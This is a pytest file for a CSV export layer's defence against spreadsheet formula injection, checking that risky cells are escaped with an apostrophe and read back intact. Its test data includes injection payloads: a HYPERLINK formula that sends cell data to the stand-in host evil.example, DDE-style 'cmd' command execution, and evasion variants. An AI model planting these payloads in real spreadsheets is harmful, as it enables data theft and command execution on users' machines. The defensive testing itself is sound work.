import csv
import io
import random
import time

import pytest

from layers.importing.delimited import delimited
from layers.writing.spreadsheet import as_text, csv_bytes, from_text

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    *("=cmd|' /C calc'!A0", "+1+1", "-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\tx"),
    *(" =1+1", "\u00a0=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1", "''=1", "' =1", '"=1"', "=", "-"),
]
PLAIN = [
    "",
    "'",
    "''",
    "'tis so",
    "1,200",
    "≈12 ships (reported)",
    "a=b",
    "(=1)",
    "–5",
    "“=1”",
    "a; b",
    "a;b=1",
    "x\ny, =1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_begins_with_an_apostrophe(text: str) -> None:
    assert as_text(text).startswith(f"'{text[0]}")
    assert from_text(as_text(text)) == text


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    [*FORMULAS, "a;=1", 'a;"=1"', "a; \t+1", "a\n=1", 'a\r\n";-1', "a;\n@x", "a\t=1\t=1", 'a,";=1', "x;'=1"],
)
def test_whatever_separates_cells_none_is_a_formula(separator: str, text: str) -> None:
    lines = csv_bytes([["id", text, "end"]]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(lines, newline=""), delimiter=separator) for cell in row]
    assert not [cell for cell in cells if cell.lstrip(" \t\r\n\u00a0").startswith(tuple("=+-@＝＋－＠"))]
    assert from_text(as_text(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert as_text(text) == text
    assert from_text(text) == text


def test_any_text_comes_back_from_our_own_reader() -> None:
    chance = random.Random(4)  # noqa: S311
    letters = "=+-@'\"\t\r\n ,;;aé＝0"
    texts = ["".join(chance.choices(letters, k=chance.randrange(6))) for _ in range(5000)]
    content = csv_bytes([["id", "text", "more"], *(["x", text, "y"] for text in [*texts, *FORMULAS, *PLAIN])])
    rows = [row for _, row in delimited(content.decode("utf-8-sig"), ["id", "text", "more"]).rows()]
    assert [row["text"] for row in rows if isinstance(row, dict)] == [*texts, *FORMULAS, *PLAIN]


def test_a_number_is_no_text() -> None:
    content = csv_bytes([[-66.5, -3.0, 15000.0, 1234567.0, None, float("nan"), "-66.5", 7]])
    assert content == b"\xef\xbb\xbf-66.5,-3,15000,1234567,,,'-66.5,7\r\n"
    assert next(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))[0] == "-66.5"


@pytest.mark.parametrize("long", ["\n" * 20_000, "'" * 20_000, ";-" * 10_000, " ;'" * 7000])
def test_a_long_cell_takes_no_longer_than_it_is(long: str) -> None:
    before = time.process_time()
    assert from_text(as_text(f"{long}a{long}=")) == f"{long}a{long}="
    assert time.process_time() - before < 1
